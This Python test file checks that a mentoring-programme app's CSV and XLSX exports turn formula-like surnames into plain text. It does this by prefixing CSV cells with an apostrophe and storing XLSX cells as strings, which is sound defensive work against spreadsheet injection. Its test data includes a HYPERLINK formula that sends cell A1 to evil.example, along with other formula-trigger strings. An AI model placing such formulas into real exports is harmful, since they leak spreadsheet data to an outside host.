"""Names that look like formulas leave every cross-institution export as text: a CSV cell gets a leading «'», an
XLSX cell is a string, never a formula."""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

import openpyxl

from tests.factories import active_pair, person, programme
from tests.helpers import PASSWORD, login_api, make_client, make_tenant, run_worker

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Нажми")'
SURNAMES = [FORMULA, "+79001234567", "-Минусов", "@SUM(A1)"]


async def exported(client: Any, smtp_port: int, app: Any, kind: str, fmt: str) -> bytes:
    started = await client.post("/api/v1/exports", json={"kind": kind, "format": fmt})
    assert started.status_code == 202, started.text
    await run_worker(app, smtp_port)
    download = await client.get(started.json()["download"])
    assert download.status_code == 200, download.text
    return download.content


async def test_formula_names_leave_the_people_and_pairs_exports_as_text(app: Any, smtp: Any) -> None:
    tenant = await make_tenant(f"Формулы {uuid.uuid4().hex[:4]}")
    async with make_client(app) as client:
        await login_api(client, tenant.curator, PASSWORD)
        ids = [await person(client, surname, "mentor") for surname in SURNAMES]
        mentee = await person(client, "@Наставляемый", "mentee_candidate")
        prog = await programme(client)
        await active_pair(client, prog, ids[0], [mentee])
    async with make_client(app) as client:
        await login_api(client, tenant.municipal, PASSWORD)
        table = list(
            csv.reader(
                io.StringIO((await exported(client, smtp[1], app, "people", "csv")).decode("utf-8-sig")), delimiter=";"
            )
        )
        names = sorted(row[0] for row in table[1:])
        assert names == sorted(f"'{s} Тест" for s in [*SURNAMES, "@Наставляемый"])
        pairs = list(
            csv.reader(
                io.StringIO((await exported(client, smtp[1], app, "pairs", "csv")).decode("utf-8-sig")), delimiter=";"
            )
        )
        assert (pairs[1][0], pairs[1][1]) == (f"'{FORMULA} Тест", "'@Наставляемый Тест")

        sheet = openpyxl.load_workbook(io.BytesIO(await exported(client, smtp[1], app, "people", "xlsx"))).active
        assert sheet is not None
        cells = [row[0] for row in sheet.iter_rows(min_row=2)]
        assert sorted(c.value for c in cells) == sorted(f"{s} Тест" for s in [*SURNAMES, "@Наставляемый"])
        assert {c.data_type for c in cells} == {"s"}  # strings: not one formula among them
